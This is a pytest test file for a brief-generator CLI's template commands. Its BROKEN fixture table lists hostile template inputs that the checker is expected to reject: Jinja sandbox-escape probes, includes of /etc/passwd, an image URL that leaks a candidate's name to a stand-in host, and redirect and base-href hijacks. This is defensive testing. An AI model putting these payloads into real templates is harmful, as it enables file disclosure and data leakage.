"""`briefgen templates list|export|check` and template errors in `render`, through click's CliRunner."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from briefgen.cli import cli

from ..conftest import FIXTURES_DIR, normalise, pdf_pages

BESIDE = FIXTURES_DIR / "coach-beside"


def coach_with_footer(tmp_path: Path, line: str) -> Path:
    """A coach folder whose brief.html replaces the footer block; ``line`` is line 3."""
    folder = tmp_path / "coach"
    folder.mkdir()
    (folder / "brief.html").write_text(
        '{% extends "classic/brief.html" %}\n{% block footer %}\n' + line + "\n{% endblock %}\n",
        encoding="utf-8")
    return folder


def test_help_lists_the_templates_group(runner):
    result = runner.invoke(cli, ["--help"])
    assert result.exit_code == 0 and "templates" in result.output
    result = runner.invoke(cli, ["templates", "--help"])
    assert result.exit_code == 0
    for command in ("list", "export", "check"):
        assert command in result.output


def test_list_shows_themes_files_and_blocks(runner):
    result = runner.invoke(cli, ["templates", "list"])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert any(line.startswith("classic  (theme;") for line in lines)
    assert any(line.startswith("base  (shared skeleton") for line in lines)
    skeleton = next(line for line in lines if line.strip().startswith("brief.html") and "blocks:" in line)
    assert "no blocks" not in skeleton
    for block in ("header", "summary", "projects", "project", "triad", "story", "aside", "footer"):
        assert block in skeleton
    classic = next(line for line in lines if "extends base/brief.html" in line)
    assert "inherits: head, fonts, style, header" in classic  # the blocks a theme file can redefine


def test_list_json(runner):
    result = runner.invoke(cli, ["templates", "list", "--json"])
    assert result.exit_code == 0, result.output
    data = {t["theme"]: t for t in json.loads(result.output)}
    assert data["base"]["shared"] and not data["classic"]["shared"]
    base_html = next(f for f in data["base"]["files"] if f["name"] == "brief.html")
    assert "footer" in base_html["blocks"] and "style.css" in base_html["references"]
    classic_html = next(f for f in data["classic"]["files"] if f["name"] == "brief.html")
    assert set(classic_html["inherited_blocks"]) == set(base_html["blocks"]) - set(classic_html["blocks"])


def test_export_then_check_passes_untouched(runner, tmp_path):
    dest = tmp_path / "coach"
    result = runner.invoke(cli, ["templates", "export", str(dest)])
    assert result.exit_code == 0, result.output
    assert (dest / "brief.html").is_file() and (dest / "base" / "brief.html").is_file()
    assert f"Next: briefgen templates check {dest}" in result.output
    result = runner.invoke(cli, ["templates", "check", str(dest)])
    assert result.exit_code == 0, result.output
    # The samples and the dense brief of the theme it is built on (classic: three long projects).
    assert f"OK {dest}: 4 briefs x pdf, html, md (12 renders) rendered cleanly" in result.output


def test_export_refuses_a_non_empty_folder_without_force(runner, tmp_path):
    dest = tmp_path / "coach"
    assert runner.invoke(cli, ["templates", "export", str(dest)]).exit_code == 0
    (dest / "brief.html").write_text("edited", encoding="utf-8")
    result = runner.invoke(cli, ["templates", "export", str(dest)])
    assert result.exit_code == 1
    assert f"Error: {dest} is not empty; use --force" in result.output
    assert (dest / "brief.html").read_text(encoding="utf-8") == "edited"
    result = runner.invoke(cli, ["templates", "export", str(dest), "--force", "--theme", "classic"])
    assert result.exit_code == 0, result.output
    assert (dest / "brief.html").read_text(encoding="utf-8") != "edited"


def test_export_of_an_unknown_theme_suggests_one(runner, tmp_path):
    result = runner.invoke(cli, ["templates", "export", str(tmp_path / "x"), "--theme", "clasic"])
    assert result.exit_code == 1
    assert "--theme: unknown theme 'clasic' (did you mean 'classic'?)" in result.output
    assert not (tmp_path / "x").exists()


BROKEN = {
    "syntax error": ("{{ candidate.name | }}", "syntax error"),
    "undefined variable": ("{{ interviewer_name }}", "undefined: 'interviewer_name'"),
    "mro": ("{{ ''.__class__.__mro__ }}", "not allowed in a template: '__class__' is private"),
    "attr filter": ("{{ ''|attr('__class__') }}", "not allowed in a template: '__class__' is private"),
    "absolute include": ('{% include "/etc/passwd" %}', "never by an absolute path"),
    "dotdot include": ('{% include "../../etc/passwd" %}', "'..' may not be used"),
    "computed include": ('{% include "../" ~ "../etc/passwd" %}', "'..' may not be used"),
    "unknown filter": ("{{ candidate.name|shout }}", "No filter named 'shout'"),
    "external image": ('<img src="https://tracker.example/pixel.png">', "the HTML loads 'https://tracker"),
    # What a browser's parser reads and a regex does not: each found on the rendered HTML's tree.
    "entity-encoded image": ('<img src="&#104;ttp://127.0.0.1:9/?n={{ candidate.name }}">',
                             "the HTML loads 'http://127.0.0.1:9/?n=Priya Raman'"),
    "refresh after <!-->": ('<!--><meta http-equiv=refresh content="0;url=//x.invalid">',
                            '<meta http-equiv="refresh"> sends the reader elsewhere'),
    "base after </script x>": ("<script></script x><base href=//x.invalid>", "<base> changes"),
    "escaped css url": ('<p style="background:u\\72l(//x.invalid/a)">x</p>',
                        "the HTML loads '//x.invalid/a' from outside the brief (the style attribute"),
    "relative image": ('<img src="logo.png">', "'logo.png' (no such file in the template folders"),
}


@pytest.mark.parametrize("line,message", BROKEN.values(), ids=BROKEN.keys())
def test_check_fails_with_file_and_line(runner, tmp_path, line, message):
    folder = coach_with_footer(tmp_path, line)
    result = runner.invoke(cli, ["templates", "check", str(folder)])
    assert result.exit_code == 1, result.output
    problems = [p for p in result.output.splitlines() if p.startswith("brief.html:")]
    assert problems, result.output
    assert any(p.startswith("brief.html:3: ") and message in p for p in problems), result.output
    assert "problem" in result.output.splitlines()[-1]
    assert "Traceback" not in result.output


def test_check_accepts_ordinary_jinja(runner):
    folder = FIXTURES_DIR / "coach-features"
    result = runner.invoke(cli, ["templates", "check", str(folder), "-f", "html", "-f", "md"])
    assert result.exit_code == 0, result.output
    assert "rendered cleanly" in result.output


def test_check_explains_a_template_that_extends_itself(runner, tmp_path):
    folder = tmp_path / "coach"
    folder.mkdir()
    (folder / "brief.html").write_text('{% extends "brief.html" %}\n', encoding="utf-8")
    result = runner.invoke(cli, ["templates", "check", str(folder), "-f", "html"])
    assert result.exit_code == 1
    assert 'brief.html:1: brief.html loads itself; to build on the packaged brief.html, extend it ' \
           'by its prefix, e.g. {% extends "classic/brief.html" %}' in result.output


def test_check_finds_a_problem_on_a_branch_no_sample_reaches(runner, tmp_path):
    folder = coach_with_footer(tmp_path, "{% if candidate.name == 'nobody' %}{{ nosuch }}{% endif %}")
    result = runner.invoke(cli, ["templates", "check", str(folder), "-f", "md"])
    assert result.exit_code == 1
    assert "brief.html:3: undefined: 'nosuch'" in result.output


def test_check_reports_a_problem_once_with_the_renders_it_broke(runner, tmp_path):
    folder = coach_with_footer(tmp_path, "{{ projects[3].title }}")  # samples have 1 to 3 projects
    result = runner.invoke(cli, ["templates", "check", str(folder), "-f", "html"])
    assert result.exit_code == 1
    problems = [p for p in result.output.splitlines() if p.startswith("brief.html:3:")]
    assert len(problems) == 1, result.output
    assert "one-project.yaml html" in problems[0] and "priya-raman.yaml html" in problems[0]


def test_check_with_a_theme_and_own_brief(runner, tmp_path):
    folder = coach_with_footer(tmp_path, "{{ candidate.name }}")
    result = runner.invoke(cli, ["templates", "check", str(folder), "--theme", "classic",
                                 "--brief", str(BESIDE / "brief.yaml"), "-f", "md", "-f", "html"])
    assert result.exit_code == 0, result.output
    assert "1 brief x md, html (2 renders)" in result.output


def test_render_with_a_hostile_template_is_a_clean_error(runner, reference, tmp_path):
    folder = coach_with_footer(tmp_path, '{% include "/etc/passwd" %}')
    out = tmp_path / "x.pdf"
    result = runner.invoke(cli, ["render", str(reference), "--templates", str(folder), "-o", str(out)])
    assert result.exit_code == 1
    assert "brief.html:3: not allowed in a template: loading '/etc/passwd' is refused" in result.output
    assert result.output.startswith("Error: ")
    assert "Traceback" not in result.output and "root:" not in result.output
    assert not out.exists()


def test_render_picks_up_the_coach_folder_beside_the_yaml(runner, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(cli, ["render", str(BESIDE / "brief.yaml"), "-o", "out.pdf"])
    assert result.exit_code == 0, result.output
    text = normalise(pdf_pages((tmp_path / "out.pdf").read_bytes())[0])
    assert "Prepared with Northwind Coaching" in text


def test_render_unknown_theme_in_yaml_is_located(runner, tmp_path):
    brief = tmp_path / "brief.yaml"
    brief.write_text((BESIDE / "brief.yaml").read_text(encoding="utf-8")
                     .replace("  templates: coach/", "  theme: modern"), encoding="utf-8")
    result = runner.invoke(cli, ["render", str(brief), "-f", "md", "-o", "-"])
    assert result.exit_code == 1
    line = brief.read_text(encoding="utf-8").splitlines().index("  theme: modern") + 1
    assert f"{brief}:{line}:10: design.theme: unknown theme 'modern'" in result.output
    assert "themes are: " in result.output and "classic" in result.output
